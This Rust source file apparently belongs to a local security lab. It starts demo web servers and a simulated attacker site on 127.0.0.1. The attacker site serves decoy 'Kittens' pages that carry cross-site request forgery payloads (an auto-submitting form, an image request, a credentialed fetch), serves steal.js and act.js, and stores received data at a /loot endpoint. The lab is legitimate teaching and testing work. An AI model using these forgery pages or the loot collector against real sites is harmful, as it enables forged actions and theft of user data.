//! The schemes to be tried by hand: each is started when it is first asked for. Beside them the attacker's site, on another site than theirs.

use std::collections::BTreeMap;
use std::net::TcpListener;
use std::path::PathBuf;
use std::sync::{Arc, Mutex, PoisonError};

use anyhow::Result;
use axum::extract::{Path, Query, State};
use axum::response::{Html, IntoResponse, Redirect, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use http::StatusCode;
use serde::Deserialize;
use serde_json::json;
use tokio::task::JoinHandle;

use crate::running::{Running, Time, loopback, serve};
use crate::schemes::Scheme;

/// What runs, and where.
#[derive(Clone)]
pub(crate) struct Live(Arc<Inner>);

struct Inner {
    program: Option<PathBuf>,
    running: tokio::sync::Mutex<BTreeMap<&'static str, Running>>,
    attacker: u16,
    attacking: JoinHandle<()>,
}

impl Drop for Inner {
    fn drop(&mut self) {
        self.attacking.abort();
    }
}

impl Live {
    pub(crate) fn new(program: Option<PathBuf>) -> Result<Self> {
        let listener: TcpListener = loopback(0)?;
        let attacker = listener.local_addr()?.port();
        let attacking = serve(&listener, site())?;
        Ok(Self(Arc::new(Inner { program, running: tokio::sync::Mutex::default(), attacker, attacking })))
    }

    pub(crate) fn routes(&self) -> Router {
        Router::new()
            .route("/live/{scheme}", get(visit))
            .route("/live/{scheme}/json", post(addresses))
            .with_state(self.clone())
    }

    /// The ports of the servers, started if they were not.
    async fn ports(&self, scheme: &str) -> Result<Option<Vec<u16>>> {
        let Some(scheme) = Scheme::named(scheme) else { return Ok(None) };
        let mut running = self.0.running.lock().await;
        if let Some(started) = running.get(scheme.id) {
            return Ok(Some(started.ports()));
        }
        let started = Running::start(scheme, self.0.program.as_ref(), Time::Real).await?;
        let ports = started.ports();
        running.insert(scheme.id, started);
        Ok(Some(ports))
    }
}

async fn visit(State(live): State<Live>, Path(scheme): Path<String>) -> Response {
    match live.ports(&scheme).await.as_ref().map(|ports| ports.as_ref().and_then(|ports| ports.first())) {
        Ok(Some(port)) => Redirect::to(&format!("http://localhost:{port}/")).into_response(),
        Ok(None) => StatusCode::NOT_FOUND.into_response(),
        Err(error) => (StatusCode::INTERNAL_SERVER_ERROR, format!("{error:#}")).into_response(),
    }
}

async fn addresses(State(live): State<Live>, Path(scheme): Path<String>) -> Response {
    match live.ports(&scheme).await {
        Ok(Some(ports)) => {
            let servers: Vec<_> = ports.iter().map(|port| format!("http://localhost:{port}")).collect();
            Json(json!({ "servers": servers, "attacker": format!("http://127.0.0.1:{}", live.0.attacker) }))
                .into_response()
        }
        Ok(None) => StatusCode::NOT_FOUND.into_response(),
        Err(error) => (StatusCode::INTERNAL_SERVER_ERROR, format!("{error:#}")).into_response(),
    }
}

/// What the attacker's scripts have sent.
type Loot = Arc<Mutex<Vec<String>>>;

/// The attacker's site, at 127.0.0.1: for a browser another site than localhost.
fn site() -> Router {
    Router::new()
        .route("/form", get(form))
        .route("/image", get(image))
        .route("/fetch", get(fetch))
        .route("/steal.js", get(async || script(include_str!("../assets/steal.js"))))
        .route("/act.js", get(async || script(include_str!("../assets/act.js"))))
        .route("/loot", get(loot).post(take))
        .with_state(Loot::default())
}

/// What the attacker's page is to attack.
#[derive(Deserialize)]
struct Target {
    target: String,
}

fn script(text: &'static str) -> impl IntoResponse {
    ([("content-type", "text/javascript")], text)
}

async fn form(Query(Target { target }): Query<Target>) -> Html<String> {
    page(&format!(
        "<form method=post action='{}'></form><script>document.forms[0].submit()</script>",
        address(&target)
    ))
}

async fn image(Query(Target { target }): Query<Target>) -> Html<String> {
    page(&format!("<img src='{}' alt=''>", address(&target)))
}

async fn fetch(Query(Target { target }): Query<Target>) -> Html<String> {
    page(&format!(
        "<script>fetch('{}',{{method:'POST',mode:'no-cors',credentials:'include'}})</script>",
        address(&target)
    ))
}

fn page(attack: &str) -> Html<String> {
    Html(format!("<!doctype html><title>Kittens</title><link rel=icon href='data:,'><p>Kittens!</p>{attack}"))
}

/// Only characters of a plain address: this site attacks others, it is not to be attacked.
fn address(target: &str) -> String {
    target.chars().filter(|letter| letter.is_ascii_alphanumeric() || ":/.-".contains(*letter)).collect()
}

async fn take(State(loot): State<Loot>, text: String) -> StatusCode {
    loot.lock().unwrap_or_else(PoisonError::into_inner).push(text);
    StatusCode::NO_CONTENT
}

async fn loot(State(loot): State<Loot>) -> Json<Vec<String>> {
    Json(loot.lock().unwrap_or_else(PoisonError::into_inner).clone())
}
